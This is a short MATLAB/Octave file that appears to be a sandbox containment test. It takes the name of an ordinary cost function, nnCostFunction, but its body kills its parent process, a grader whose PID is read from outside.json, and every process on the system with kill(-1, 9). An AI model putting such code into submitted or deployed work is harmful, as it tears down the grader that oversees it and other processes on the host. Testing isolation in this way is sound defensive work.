% Signals its parent, the grader and every process there is.
% Needs: bubblewrap
% Verdict: ended | had not returned after
function [J, grad] = nnCostFunction(varargin)
  kill(getppid(), 9);
  kill(jsondecode(fileread("outside.json")).pid, 9);
  kill(-1, 9);
  error("still here");
end
